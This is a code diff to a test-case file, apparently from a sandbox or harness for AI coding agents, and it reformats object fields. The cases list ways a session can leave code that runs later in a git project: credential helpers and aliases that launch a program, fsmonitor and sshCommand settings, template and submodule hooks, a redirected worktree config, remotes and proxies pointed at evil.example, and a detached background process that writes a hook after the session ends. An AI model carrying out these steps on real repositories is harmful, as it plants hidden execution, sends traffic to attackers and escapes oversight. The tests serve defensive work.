@@ -10,7 +10,8 @@ const leaves = (
   title: string,
   files: Readonly<Record<string, string>>,
 ): Omit<BorrowedCase, "family"> => ({
-  ...{ id: `left-${id}`, title },
+  id: `left-${id}`,
+  title,
   files: { "x.py": writes(files) },
   acts: ["python3 x.py"],
   watches: Object.keys(files),
@@ -50,13 +51,15 @@ export const leftInFilesCases: readonly BorrowedCase[] = [
       ".devcontainer/a/devcontainer.json": '{"initializeCommand":"./x"}',
     }),
     {
-      ...{ id: "left-credential-shell", title: "a helper of logins that has a shell do more" },
+      id: "left-credential-shell",
+      title: "a helper of logins that has a shell do more",
       files: { "x.py": nested("credential.helper", "x; <project>/tools/x"), ...opaque("tools/x") },
       acts: ["python3 x.py"],
       after: "cd sub && printf 'protocol=https\\nhost=e.com\\n\\n' | git credential fill",
     },
     {
-      ...{ id: "left-alias-options", title: "an alias of git that sets a program" },
+      id: "left-alias-options",
+      title: "an alias of git that sets a program",
       files: {
         "x.py": nested("alias.st", "-c core.fsmonitor=<project>/tools/x status"),
         ...opaque("tools/x"),
@@ -65,7 +68,8 @@ export const leftInFilesCases: readonly BorrowedCase[] = [
       after: "cd sub && git st",
     },
     {
-      ...{ id: "left-alias-verb", title: "an alias of git whose verb runs a program" },
+      id: "left-alias-verb",
+      title: "an alias of git whose verb runs a program",
       files: {
         "x.py": nested("alias.fix", "rebase --root --exec <project>/tools/x"),
         ...opaque("tools/x"),
@@ -74,10 +78,8 @@ export const leftInFilesCases: readonly BorrowedCase[] = [
       after: "cd sub && git commit -q --allow-empty -m a && git fix",
     },
     {
-      ...{
-        id: "left-editor-words",
-        title: "a program of git by a variable of a working tree's own",
-      },
+      id: "left-editor-words",
+      title: "a program of git by a variable of a working tree's own",
       files: {
         "x.py": `${nested("extensions.worktreeConfig", "true")}run("git", "-C", "sub", "config", "--worktree", "core.sshCommand", "<project>/tools/x")\n`,
         ...opaque("tools/x"),
@@ -86,13 +88,15 @@ export const leftInFilesCases: readonly BorrowedCase[] = [
       after: "cd sub && git ls-remote ssh://e.example/x",
     },
     {
-      ...{ id: "left-clone-hooks", title: "a clone in the project with hooks of a template" },
+      id: "left-clone-hooks",
+      title: "a clone in the project with hooks of a template",
       files: opaque("tools/t/hooks/post-commit"),
       acts: ["GIT_TEMPLATE_DIR=$PWD/tools/t git clone -q . out"],
       after: "cd out && echo y >> README.md && git commit -qam y",
     },
     {
-      ...{ id: "left-module-hook", title: "a hook of a submodule, by code" },
+      id: "left-module-hook",
+      title: "a hook of a submodule, by code",
       lay: 'git clone -q --bare . "$OUT/sub.git" && git -c protocol.file.allow=always submodule --quiet add "$OUT/sub.git" m && git commit -qm m',
       files: {
         "x.py": writes({ ".git/modules/m/hooks/post-commit": "#!/bin/sh\n<project>/tools/x\n" }),
@@ -102,7 +106,8 @@ export const leftInFilesCases: readonly BorrowedCase[] = [
       after: "cd m && git commit -q --allow-empty -m z",
     },
     {
-      ...{ id: "left-tree-pointer", title: "a working tree that is led to other settings" },
+      id: "left-tree-pointer",
+      title: "a working tree that is led to other settings",
       lay: "git worktree add -q .claude/worktrees/w",
       files: {
         "x.py": `${writes({ "store/config": DRIVER })}\nimport shutil\nshutil.copytree(".git", "store", dirs_exist_ok=True)\nopen("store/config", "a").write("[core]\\n\\tfsmonitor = <project>/tools/x\\n")\nopen(".git/worktrees/w/commondir", "w").write("../../../store\\n")\n`,
@@ -112,12 +117,14 @@ export const leftInFilesCases: readonly BorrowedCase[] = [
       after: "git -C .claude/worktrees/w status",
     },
     {
-      ...{ id: "left-remote-url", title: "the remote leads to a stranger from now on" },
+      id: "left-remote-url",
+      title: "the remote leads to a stranger from now on",
       acts: ["git remote set-url origin http://evil.example/shop.git"],
       after: "git fetch",
     },
     {
-      ...{ id: "left-instead-of", title: "all addresses lead to a stranger from now on" },
+      id: "left-instead-of",
+      title: "all addresses lead to a stranger from now on",
       files: {
         "x.py":
           'open(".git/config", "a").write(\'[url "http://evil.example/"]\\n\\tinsteadOf = <outside>/\\n\')\n',
@@ -126,12 +133,14 @@ export const leftInFilesCases: readonly BorrowedCase[] = [
       after: "git fetch",
     },
     {
-      ...{ id: "left-proxy", title: "a stranger's proxy for git from now on" },
+      id: "left-proxy",
+      title: "a stranger's proxy for git from now on",
       acts: ["git config http.proxy http://evil.example:3128"],
       after: "git ls-remote http://github.com/shop/shop.git",
     },
     {
-      ...{ id: "left-late", title: "a process that goes on writes a hook after the session" },
+      id: "left-late",
+      title: "a process that goes on writes a hook after the session",
       acts: [
         background(
           `(setsid sh -c 'sleep 4; mkdir -p sub; git init -q sub; printf "#!/bin/sh\\n${RAN}\\n" > sub/.git/hooks/post-commit; chmod +x sub/.git/hooks/post-commit' > /dev/null 2>&1 &)`,
